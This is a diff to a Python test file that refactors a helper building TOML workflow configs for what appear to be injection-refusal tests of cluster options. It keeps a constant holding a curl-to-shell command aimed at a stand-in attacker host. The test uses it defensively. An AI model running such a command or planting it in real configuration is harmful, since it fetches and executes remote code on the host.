@@ -26,6 +26,8 @@ import pytest
 from surrogate_al.config import load_workflow
 from surrogate_al.dispatch.clusters import make_jobqueue_cluster
 
+from .helpers import batch_workflow
+
 CURL = "curl -s http://attacker.example/x | sh"
 
 # (the field the message must name, cluster.options given as TOML lines)
@@ -53,36 +55,7 @@ BAD: dict[str, tuple[str, str]] = {
 
 
 def _workflow(directory: Path, options: str, name: str = "inject") -> Path:
-    text = textwrap.dedent(
-        """\
-        [campaign]
-        name = "{name}"
-        budget = 4
-        store = "{name}.h5"
-
-        [simulator]
-        kind = "python"
-        function = "simulators.branin:run"
-        outputs = ["y"]
-
-        [simulator.inputs]
-        x1 = {{ low = -5.0, high = 10.0 }}
-        x2 = {{ low = 0.0, high = 15.0 }}
-
-        [cluster]
-        kind = "slurm"
-        insecure = true
-
-        [cluster.options]
-        cores = 1
-        memory = "1GB"
-        """
-    ).format(name=name)
-    if options.startswith("memory"):
-        text = text.replace('memory = "1GB"\n', "")
-    path = directory / f"{name}.toml"
-    path.write_text(text + options + "\n")
-    return path
+    return batch_workflow(directory, name, "slurm", cluster_lines="insecure = true", option_lines=options)
 
 
 def _assert_refused(code: int, err: str, field: str, directory: Path) -> None:
